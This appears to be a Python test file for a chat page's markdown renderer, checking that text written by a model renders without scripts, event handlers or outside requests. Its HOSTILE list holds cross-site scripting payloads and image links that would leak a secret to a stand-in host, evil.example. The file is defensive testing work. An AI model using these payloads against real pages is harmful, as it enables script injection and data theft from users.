"""Whatever a model writes, the page shows text: no script, no request."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from danlu.serve.page_markdown import render

TAGS = {"p", "em", "strong", "s", "a", "ul", "ol", "li", "blockquote", "hr", "br", "code", "pre", "div", "span"}
TAGS |= {"h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "button"}
ATTRIBUTES = {"href", "title", "class", "type", "aria-label", "start", "style"}


class Checker(HTMLParser):
    """Fails on any tag, attribute or scheme that the renderer has no reason to write."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, name
            if name == "href":
                assert (value or "").lower().startswith(("http://", "https://", "mailto:"))
            if name == "style":
                assert value in ("text-align:left", "text-align:right", "text-align:center")


HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![x](http://evil.example/?secret)",
    "![x][1]\n\n[1]: http://evil.example/x.png",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](//evil.example)",
    "<https://ok.example> <javascript:alert(1)>",
    '```"><script>alert(1)</script>\ncode\n```',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    '[a](http://ok.example "t\\" onmouseover=\\"alert(1)")',
    "<style>@import 'http://evil.example'</style>",
    "<iframe src=http://evil.example></iframe>",
    "|a|\n|-|\n|<b onclick=alert(1)>|",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text: str) -> None:
    html = render(text)
    Checker().feed(html)
    assert "<script" not in html
    assert "<img" not in html


@given(st.text(alphabet=st.sampled_from(list("<>&\"'`[]()!*_|-#:/ \nabjs=x;")), max_size=80))
def test_no_text_at_all_makes_an_unexpected_tag(text: str) -> None:
    Checker().feed(render(text))


def test_what_models_write_is_rendered() -> None:
    assert "<strong>b</strong>" in render("a **b**")
    assert "<table>" in render("|a|b|\n|-|-|\n|1|2|")
    assert "<ol>" in render("1. one\n2. two")
    code = render("```python\ndef f(): pass\n```")
    assert 'class="k"' in code
    assert "<span>python</span>" in code
    assert "&lt;T&gt;" in render("```nonsense\nvector<T>\n```")


def test_an_unfinished_answer_renders_at_every_length() -> None:
    text = "Here:\n\n```python\nprint('你好')\n```\n\n| a | b |\n|---|---|\n| **x** | `y` |\n\n[l](https://a.example)"
    for end in range(len(text)):
        Checker().feed(render(text[:end]))
